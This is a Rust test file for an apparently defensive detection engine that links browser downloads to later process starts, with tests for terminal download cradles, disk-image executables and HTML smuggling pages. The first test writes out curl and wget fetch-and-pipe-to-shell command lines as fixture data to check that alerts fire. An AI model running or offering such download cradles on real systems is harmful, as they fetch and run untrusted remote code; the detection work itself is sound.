//! How variant rules link what follows a download to it: each download cradle is its own
//! anchor, an exec from a container that names no file belongs to the latest download of its
//! class, and a page file from an origin the lineage never reached links by its own origin.

use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};
use clickchain::alert::Alert;
use clickchain::{Config, Engine, Record};
use clickchain_adapters::{Event, EventKind, FileOp, Origin, Os, Position, ProcKey, SourceRef};

const T0: i64 = 1_715_677_200_000; // 2024-05-14T09:00:00Z
const CHROME: &str = r"C:\Program Files\Google\Chrome\Application\chrome.exe";

struct Stream {
    os: Os,
    events: Vec<Event>,
}

impl Stream {
    fn new(os: Os) -> Stream {
        Stream { os, events: Vec::new() }
    }

    fn push(&mut self, ms: i64, kind: EventKind) {
        let source = SourceRef { input: Arc::from("links.ndjson"), pos: Position::Line(self.events.len() as u64 + 1) };
        let time: DateTime<Utc> = Utc.timestamp_millis_opt(T0 + ms).unwrap();
        self.events.push(Event { time, host: "h-1".into(), os: Some(self.os), source, kind });
    }

    fn start(&mut self, ms: i64, id: &str, parent: Option<&str>, image: &str, cmd: &str) {
        let kind = EventKind::ProcessStart {
            proc: ProcKey::Id(id.into()),
            parent: parent.map(|p| ProcKey::Id(p.into())),
            image: image.into(),
            command_line: Some(cmd.into()),
            user: Some("u".into()),
            session: None,
            forked: false,
            built: false,
        };
        self.push(ms, kind);
    }

    fn connect(&mut self, ms: i64, id: &str, ip: &str, domain: &str) {
        let kind = EventKind::Connect {
            proc: ProcKey::Id(id.into()),
            dst_ip: ip.parse().unwrap(),
            dst_port: 443,
            domain: Some(domain.into()),
        };
        self.push(ms, kind);
    }

    fn write(&mut self, ms: i64, id: &str, path: &str, url: &str) {
        let origin = Some(Box::new(Origin { zone: Some(3), url: Some(url.into()), ..Origin::default() }));
        self.push(
            ms,
            EventKind::FileWrite { proc: ProcKey::Id(id.into()), path: path.into(), op: FileOp::Create, origin },
        );
    }

    fn alerts(self, rules: &[&str]) -> Vec<Alert> {
        let mut c = Config::default();
        c.rules.explain = true;
        c.rules.enabled = rules.iter().map(|r| (*r).to_owned()).collect();
        let mut e = Engine::new(c).unwrap();
        e.set_now(Utc.timestamp_millis_opt(T0 + 86_400_000).unwrap());
        for ev in self.events {
            e.push(ev);
        }
        e.finish();
        e.drain()
            .into_iter()
            .filter_map(|r| match r {
                Record::Alert(a) if rules.contains(&a.rule.as_str()) => Some(*a),
                _ => None,
            })
            .collect()
    }
}

#[test]
fn two_download_cradles_under_one_root_alert_apart() {
    let mut s = Stream::new(Os::Linux);
    s.start(0, "ff", None, "/usr/lib/firefox/firefox", "/usr/lib/firefox/firefox");
    for (i, (tool, domain)) in
        [("curl -fsSL", "get.one-tool.top"), ("wget -qO-", "dl.other-tool.xyz")].iter().enumerate()
    {
        let (t, n) = (10_000 + i as i64 * 60_000, i.to_string());
        let cradle = format!("bash -c \"{tool} https://{domain}/install.sh | sh\"");
        s.start(t, &format!("term{n}"), Some("ff"), "/usr/bin/xterm", "xterm");
        s.start(t + 500, &format!("sh{n}"), Some(&format!("term{n}")), "/usr/bin/bash", &cradle);
        s.start(
            t + 600,
            &format!("dl{n}"),
            Some(&format!("sh{n}")),
            "/usr/bin/curl",
            &format!("{tool} https://{domain}/install.sh"),
        );
        s.connect(t + 800, &format!("dl{n}"), &format!("203.0.113.{}", 10 + i), domain);
    }
    let alerts = s.alerts(&["terminal-cradle"]);
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
}

#[test]
fn a_drive_letter_exec_is_linked_to_the_latest_disk_image_only() {
    let mut s = Stream::new(Os::Windows);
    s.start(0, "b", None, CHROME, &format!("\"{CHROME}\""));
    s.connect(1_000, "b", "203.0.113.5", "files.example.top");
    s.write(20_000, "b", r"C:\Users\u\Downloads\older.iso", "https://files.example.top/older.iso");
    s.connect(40_000, "b", "203.0.113.6", "other.example.xyz");
    s.write(50_000, "b", r"C:\Users\u\Downloads\newer.iso", "https://other.example.xyz/newer.iso");
    s.start(90_000, "run", None, r"E:\setup.exe", r"E:\setup.exe");
    let alerts = s.alerts(&["container-run"]);
    let files: Vec<&str> = alerts.iter().map(|a| a.write.path.as_str()).collect();
    assert_eq!(files, [r"C:\Users\u\Downloads\newer.iso"]);
}

#[test]
fn a_page_from_an_origin_never_reached_alerts_when_opened() {
    let mut s = Stream::new(Os::Windows);
    s.start(0, "b", None, CHROME, &format!("\"{CHROME}\""));
    let page = r"C:\Users\u\Downloads\Remittance.html";
    s.write(20_000, "b", page, "https://pages.example.top/Remittance.html");
    // Saved, and nothing opens it: no alert.
    let quiet = Stream { os: Os::Windows, events: s.events.clone() };
    assert!(quiet.alerts(&["html-smuggling"]).is_empty());
    s.start(60_000, "open", None, CHROME, &format!("\"{CHROME}\" {page}"));
    let alerts = s.alerts(&["html-smuggling"]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    assert!(alerts[0].egress.is_none(), "linked by its own origin, no egress: {:#?}", alerts[0]);
    let derivation = alerts[0].derivation.as_ref().expect("asked for");
    for f in &derivation.facts {
        assert_eq!(f.holds, Some(true), "{f:?}");
    }
}
